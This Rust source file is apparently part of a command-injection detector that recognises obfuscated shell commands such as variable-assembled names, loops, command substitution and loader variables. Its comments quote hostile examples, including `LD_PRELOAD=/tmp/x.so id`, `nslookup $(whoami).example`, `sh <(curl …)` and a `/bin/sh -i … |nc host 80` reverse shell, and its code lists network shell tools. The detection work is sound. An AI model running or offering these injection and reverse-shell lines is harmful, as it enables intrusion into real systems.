//! How a command is put together where its words alone do not tell: from variables, from the output of other commands,
//! in a loop, from pieces of the environment.

use crate::execution::{commands, words, words::Command};

/// Bytes of a line that are read for it.
const LINE_BYTES_MAX: usize = 256;

/// Variables that are compared with the one that was given a value.
const VARIABLES_MAX: usize = 4;

/// Bytes of the name of a variable.
const NAME_BYTES_MAX: usize = 16;

/// What follows an operator, to the end of its line.
fn line(rest: &[u8]) -> &[u8] {
    let rest = &rest[..rest.len().min(LINE_BYTES_MAX)];
    &rest[..memchr::memchr(b'\n', rest).unwrap_or(rest.len())]
}

/// A word of the shell's own, a variable that is given a value and then run, or a program that shows that something
/// ran, begins `rest`.
pub(super) fn is_program(rest: &[u8]) -> bool {
    if rest.starts_with(b"calc") || rest.starts_with(b"notepad") || rest.starts_with(b"start calc") {
        return is_show(rest);
    }
    let length =
        rest.iter().take(NAME_BYTES_MAX).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
    match rest.get(length) {
        Some(b'=') if length > 0 => {
            is_assembled(&rest[..length], line(&rest[length..])) || is_loading(&rest[..length], line(&rest[length..]))
        }
        Some(b' ') => is_loop(&rest[..length], line(rest)),
        _ => false,
    }
}

/// `calc.exe`: a program that shows that something ran.
fn is_show(rest: &[u8]) -> bool {
    let end = rest.iter().take(2 * NAME_BYTES_MAX).position(|byte| b"\"';|&\n)".contains(byte)).unwrap_or(rest.len());
    let name = rest[..end].trim_ascii();
    let name = name.strip_suffix(b".exe").unwrap_or(name);
    matches!(name, b"calc" | b"notepad" | b"start calc")
}

/// Variables by which programs load or run something else.
static LOADING: [&[u8]; 9] = [
    b"LD_PRELOAD",
    b"LD_LIBRARY_PATH",
    b"LD_AUDIT",
    b"BASH_ENV",
    b"PATH",
    b"PYTHONPATH",
    b"PYTHONSTARTUP",
    b"PERL5OPT",
    b"GIT_SSH_COMMAND",
];

/// `LD_PRELOAD=/tmp/x.so id`: a command runs with what the variable loads.
fn is_loading(name: &[u8], after: &[u8]) -> bool {
    let Some(blank) = memchr::memchr(b' ', after) else { return false };
    let command = words::read(after, blank + 1);
    LOADING.contains(&name) && command.words.first().is_some_and(|name| commands::is_command(name))
}

/// `a=c;b=at;$a$b`, `IFS=,;`…``: what `name` was given is run.
fn is_assembled(name: &[u8], after: &[u8]) -> bool {
    let Some(end) = memchr::memchr2(b';', b'&', after) else { return false };
    let more = &after[end..];
    let uses = memchr::memchr_iter(b'$', more).take(VARIABLES_MAX).any(|place| {
        let variable = more[place + 1..].strip_prefix(b"{").unwrap_or(&more[place + 1..]);
        let runs = more[..place].last().is_some_and(|before| matches!(before, b';' | b' ' | b'&' | b'|'));
        runs && variable.starts_with(name)
    });
    uses || name == b"IFS" && (more.contains(&b'`') || memchr::memmem::find(more, b"$(").is_some())
}

/// `for i in $(ls);do echo $i;done`, `if [ 1 = 1 ];then id;fi`, `for /f %a in ('id') do echo %a`
fn is_loop(word: &[u8], line: &[u8]) -> bool {
    let has = |part: &[u8]| memchr::memmem::find(line, part).is_some();
    match word {
        b"for" if line.starts_with(b"for /") || line.starts_with(b"for %") => has(b" in ") && has(b" do "),
        b"for" | b"while" | b"until" => (has(b";do") || has(b"; do")) && has(b"done"),
        b"if" => (has(b";then") || has(b"; then")) && has(b"fi"),
        _ => false,
    }
}

/// Leaves out the ending that Windows does without: `whoami.exe`.
pub(super) fn drop_ending(command: &mut Command) {
    let Some(name) = command.words.first_mut() else { return };
    let plain = name
        .len()
        .checked_sub(4)
        .filter(|cut| name.is_char_boundary(*cut) && name[*cut..].eq_ignore_ascii_case(".exe"));
    if let Some(cut) = plain.filter(|cut| commands::is_command(&name[..*cut])) {
        name.truncate(cut);
    }
}

/// True when `command`, which `rest` begins with after `sign`, is put together from other things.
pub(super) fn is_put_together(sign: &str, rest: &[u8], command: &Command) -> bool {
    let line = line(rest);
    if memchr::memchr3(b'$', b'`', b'<', line).is_none() && !sign.ends_with(['`', '(']) {
        return false;
    }
    let Some(name) = command.words.first() else { return false };
    let known = commands::is_command(name);
    // What another command prints is run: `;$(printf …)`.
    let runs_output = sign.len() > 2 && sign.starts_with([';', '|', '&']) && sign.ends_with(['`', '(']);
    // A backtick may also be the end of what is quoted.
    let certain = sign.contains([';', '|', '&', '\n', '$']);
    known && (runs_output || has_here_string(line) || certain && runs_within(line))
        || has_piece(line)
        || is_shell_variable(name) && command.words.len() > 1
        || name.len() > 3
            && name
                .find("$(")
                .is_some_and(|place| name[..place].bytes().all(|byte| byte.is_ascii_lowercase()) && place > 0)
}

fn has_here_string(line: &[u8]) -> bool {
    memchr::memmem::find(line, b"<<<").is_some()
}

/// Another command runs within the words of the first: `nslookup $(whoami).example`, `sh <(curl …)`.
fn runs_within(line: &[u8]) -> bool {
    memchr::memchr3_iter(b'$', b'`', b'<', line).any(|place| {
        let inner = match &line[place..] {
            [b'$' | b'<', b'(', ..] => place + 2,
            [b'`', ..] => place + 1,
            _ => return false,
        };
        words::read(line, inner).words.first().is_some_and(|name| commands::is_command(name))
    })
}

/// `${PATH:0:1}`: a piece of a variable stands for a character that a filter looks for.
fn has_piece(line: &[u8]) -> bool {
    memchr::memmem::find_iter(line, b"${").any(|place| {
        let rest = &line[place + 2..];
        let name =
            rest.iter().take(NAME_BYTES_MAX).take_while(|byte| byte.is_ascii_alphanumeric() || **byte == b'_').count();
        name > 0 && matches!(&rest[name..], [b':', digit, ..] if digit.is_ascii_digit())
    })
}

/// The shell itself, by the variable that holds its name.
fn is_shell_variable(name: &str) -> bool {
    let name = name.trim_start_matches(['$', '{']);
    ["SHELL", "BASH", "0"]
        .iter()
        .any(|known| name.strip_prefix(known).is_some_and(|rest| rest.is_empty() || rest.starts_with(['}', '#', '<'])))
}

/// A pipe hands a shell that listens to somebody on another machine: `|/bin/sh -i 2>&1|nc host 80`.
pub(super) fn hands_out(rest: &[u8], command: &Command) -> bool {
    let shell =
        command.words.first().is_some_and(|name| name.ends_with("sh")) && command.words.iter().any(|word| word == "-i");
    let talks = [&b"nc "[..], b"ncat ", b"telnet ", b"socat ", b"/dev/tcp/", b"openssl "];
    shell && talks.iter().any(|part| memchr::memmem::find(line(rest), part).is_some())
}
